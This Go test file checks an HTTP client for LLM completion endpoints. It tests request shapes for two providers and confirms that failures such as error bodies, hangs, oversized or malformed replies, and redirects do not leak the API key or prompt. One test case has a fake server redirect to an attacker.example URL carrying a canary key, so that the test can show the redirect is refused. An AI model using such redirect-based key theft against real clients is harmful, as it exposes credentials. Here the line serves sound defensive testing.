package httpx_test

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/arrowhead-go/arrowhead/adapters/httpx"
	"github.com/arrowhead-go/arrowhead/ports"
)

const (
	llmKey    = "sk-ant-CANARYLLMKEY-0c9d8e"
	llmHost   = "model.internal"
	llmPrompt = "PROMPTCANARY-4e1f"
)

// llmFake is a model endpoint on loopback answering in either provider's
// shape, or as its handler says.
type llmFake struct {
	mu     sync.Mutex
	header http.Header
	body   map[string]any
	n      int
	port   int
}

func llmServe(t *testing.T, handle func(w http.ResponseWriter, r *http.Request)) *llmFake {
	t.Helper()
	f := &llmFake{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		raw, _ := io.ReadAll(r.Body)
		f.mu.Lock()
		f.header, f.n = r.Header.Clone(), f.n+1
		_ = json.Unmarshal(raw, &f.body)
		f.mu.Unlock()
		handle(w, r)
	}))
	t.Cleanup(srv.Close)
	f.port = embPortOf(t, srv.URL)
	return f
}

// seen is what the fake received: the request count and the last
// request's headers and decoded body. The handler writes them on the
// server's goroutine, so they are read under the lock.
func (f *llmFake) seen() (int, http.Header, map[string]any) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.n, f.header, f.body
}

func (f *llmFake) endpoint(path string) string {
	return "http://" + llmHost + ":" + strconv.Itoa(f.port) + path
}

func llmEgress(t *testing.T, f *llmFake) *httpx.Egress {
	t.Helper()
	e, err := httpx.New(httpx.Config{InternalHosts: []string{llmHost + ":" + strconv.Itoa(f.port)}}, embResolver{names: []string{llmHost}})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func newCompleter(t *testing.T, provider string, f *llmFake, path string) *httpx.HTTPCompleter {
	t.Helper()
	c, err := httpx.NewHTTPCompleter(httpx.CompleterConfig{Provider: provider, Endpoint: f.endpoint(path), Model: "m1",
		APIKey: llmKey, Timeout: 2 * time.Second, MaxResponseBytes: 4096, Internal: true}, llmEgress(t, f))
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func answerJSON(v any) func(http.ResponseWriter, *http.Request) {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(v)
	}
}

func TestHTTPCompleterAnthropicShape(t *testing.T) {
	f := llmServe(t, answerJSON(map[string]any{"content": []any{
		map[string]any{"type": "text", "text": "It adds "}, map[string]any{"type": "tool_use", "text": "IGNORED"},
		map[string]any{"type": "text", "text": "two numbers."}}}))
	got, err := newCompleter(t, httpx.ProviderAnthropic, f, "/v1/messages").Complete(context.Background(),
		ports.CompletionRequest{System: "Explain.", Prompt: llmPrompt, MaxTokens: 77})
	if err != nil || got != "It adds two numbers." {
		t.Fatalf("%q, %v", got, err)
	}
	_, header, body := f.seen()
	if header.Get("x-api-key") != llmKey || header.Get("anthropic-version") != httpx.AnthropicVersion || header.Get("Authorization") != "" {
		t.Fatalf("headers %v", header)
	}
	msgs, _ := body["messages"].([]any)
	if body["system"] != "Explain." || body["max_tokens"] != float64(77) || body["model"] != "m1" || len(msgs) != 1 {
		t.Fatalf("body %v", body)
	}
}

func TestHTTPCompleterOpenAIShape(t *testing.T) {
	f := llmServe(t, answerJSON(map[string]any{"choices": []any{map[string]any{"message": map[string]any{"role": "assistant", "content": "Summary."}}}}))
	got, err := newCompleter(t, httpx.ProviderOpenAI, f, "/v1/chat/completions").Complete(context.Background(),
		ports.CompletionRequest{System: "Summarize.", Prompt: llmPrompt, MaxTokens: 5})
	if err != nil || got != "Summary." {
		t.Fatalf("%q, %v", got, err)
	}
	_, header, body := f.seen()
	if header.Get("Authorization") != "Bearer "+llmKey || header.Get("x-api-key") != "" {
		t.Fatalf("headers %v", header)
	}
	msgs, _ := body["messages"].([]any)
	if len(msgs) != 2 || msgs[0].(map[string]any)["role"] != "system" || msgs[1].(map[string]any)["content"] != llmPrompt {
		t.Fatalf("messages %v", msgs)
	}
}

func TestHTTPCompleterFailuresNeverLeak(t *testing.T) {
	release := make(chan struct{})
	t.Cleanup(func() { close(release) })
	cases := map[string]struct {
		handle func(http.ResponseWriter, *http.Request)
		kind   httpx.CompleteErrorKind
	}{
		"error body carrying the key": {func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusUnauthorized)
			_, _ = io.WriteString(w, `{"error":"bad key `+llmKey+` for prompt `+llmPrompt+`"}`)
		}, httpx.CompleteStatus},
		"redirect": {func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://attacker.example/steal?key="+llmKey, http.StatusTemporaryRedirect)
		}, httpx.CompleteEgress},
		"hang": {func(_ http.ResponseWriter, r *http.Request) {
			select {
			case <-release:
			case <-r.Context().Done():
			}
		}, httpx.CompleteEgress},
		"huge":  {func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, strings.Repeat("x", 10000)) }, httpx.CompleteEgress},
		"prose": {func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "Sure! "+llmPrompt) }, httpx.CompleteMalformed},
		"trailing data": {func(w http.ResponseWriter, _ *http.Request) {
			_, _ = io.WriteString(w, `{"content":[{"type":"text","text":"a"}]} {"x":1}`)
		}, httpx.CompleteMalformed},
		"empty": {answerJSON(map[string]any{"content": []any{}}), httpx.CompleteEmpty},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			f := llmServe(t, tc.handle)
			c := newCompleter(t, httpx.ProviderAnthropic, f, "/v1/messages")
			_, err := c.Complete(context.Background(), ports.CompletionRequest{Prompt: llmPrompt, MaxTokens: 5})
			ce, ok := err.(*httpx.CompleteError)
			if !ok || ce.Kind != tc.kind {
				t.Fatalf("error %v, want kind %q", err, tc.kind)
			}
			for _, leak := range []string{llmKey, llmPrompt, llmHost, "attacker"} {
				if strings.Contains(err.Error(), leak) || strings.Contains(c.String(), leak) {
					t.Fatalf("%q leaked into %q", leak, err)
				}
			}
			if n, _, _ := f.seen(); n != 1 {
				t.Fatalf("%d requests; a redirect must not be followed", n)
			}
		})
	}
}

func TestHTTPCompleterNeedsTheInternalExemption(t *testing.T) {
	f := llmServe(t, answerJSON(map[string]any{"content": []any{map[string]any{"type": "text", "text": "x"}}}))
	e, err := httpx.New(httpx.Config{}, embResolver{names: []string{llmHost}})
	if err != nil {
		t.Fatal(err)
	}
	c, err := httpx.NewHTTPCompleter(httpx.CompleterConfig{Provider: httpx.ProviderAnthropic, Endpoint: f.endpoint("/v1/messages"), Internal: true}, e)
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.Complete(context.Background(), ports.CompletionRequest{Prompt: "p", MaxTokens: 1})
	if n, _, _ := f.seen(); err == nil || n != 0 {
		t.Fatalf("a loopback model not on the internal list was reached: %v, %d requests", err, n)
	}
}
